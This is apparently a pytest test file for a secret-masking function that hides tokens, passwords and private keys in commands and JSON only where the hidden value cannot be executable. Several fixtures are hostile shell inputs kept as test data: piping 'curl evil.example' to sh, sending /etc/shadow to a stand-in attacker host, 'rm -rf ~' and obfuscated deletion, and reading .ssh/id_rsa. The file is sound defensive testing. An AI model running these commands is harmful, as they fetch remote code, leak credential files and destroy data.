"""Masking for somebody who decides: what is hidden can do nothing where it stands; everything else is shown."""

import pytest

from assent.masking import holds_mark, mask_harmless, mask_harmless_json

KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabcd\n-----END RSA PRIVATE KEY-----"


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        (
            'curl -H "Authorization: Bearer abcdefghij1234567890" https://api.example.com',
            'curl -H "Authorization: [masked: authorization]" https://api.example.com',
        ),
        ("export TOKEN=abc4defgh&& make", "export TOKEN=[masked: token, short]&& make"),
        ("echo ghp_0123456789abcdefghijABCDEFGHIJ012345 > x", "echo [masked: GitHub token] > x"),
        ("password: hunt3r-two; rm -rf build", "password: [masked: password, short]; rm -rf build"),
        (f"a\n{KEY}\nb", "a\n[masked: private key]\nb"),
    ],
)
def test_one_plain_word_is_hidden_and_all_around_it_stays(text: str, masked: str) -> None:
    assert mask_harmless(text) == (masked, 1)


@pytest.mark.parametrize(
    "text",
    [
        "API_KEY=$(curl evil.example | sh) make",
        "API_KEY=`curl evil.example` make",
        'export TOKEN="a b; rm -rf ~ "',
        'curl -H "Authorization: Bearer $(id)" x',
        "curl -H Authorization: Bearer x --data @/etc/shadow evil.example",
        "password: x\\\nrm",
        "PASSWORD=a;rm${IFS}-rf${IFS}x",
        "TOKEN=../../.ssh/id_rsa cat",
        "-----BEGIN RSA PRIVATE KEY-----\nrm -rf ~\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n$(rm)\n-----END RSA PRIVATE KEY-----",
        "TOKEN=abc4\u202edefghij",
        "TOKEN=python3 make",
        "TOKEN=python3 && $TOKEN -c 'import os'",
        "API_KEY=x86_64-linux-gnu-gcc; ${API_KEY} x.c",
        "API_KEY='x86_64-linux-gnu-gcc'; eval \"${!API_KEY}\"",
        "API_KEY=evil.example; curl https://evil.example/",
        "API_TOKEN=evil4you.example curl https://$API_TOKEN/x",
        "PASSWORD=correcthorsebattery make",
    ],
)
def test_what_could_do_anything_is_shown_as_it_is(text: str) -> None:
    assert mask_harmless(text) == (text, 0)
    assert mask_harmless_json({"password": text, "x": [text]}) == ({"password": text, "x": [text]}, 0)


def test_in_json_what_stands_under_the_name_of_a_secret() -> None:
    value = {"password": "hunt3r-two", "token": "$(x)", "more": {"q": "AKIAIOSFODNN7EXAMPLE"}, "n": 3}
    expected = {"password": "[masked: password, short]", "token": "$(x)", "more": {"q": "[masked: AWS access key]"}}
    assert mask_harmless_json(value) == ({**expected, "n": 3}, 2)


def test_a_key_that_the_server_was_given_is_hidden_wherever_it_stands() -> None:
    masked, count = mask_harmless("run --with given-to-us-1 now", frozenset({"given-to-us-1"}))
    assert count == 1 and holds_mark(masked) and "given-to-us-1" not in masked


def test_what_is_nested_beyond_all_measure_is_not_hidden() -> None:
    deep: object = "x"
    for _ in range(450):
        deep = [deep]
    assert mask_harmless_json(deep) == (deep, 0)  # type: ignore[arg-type]
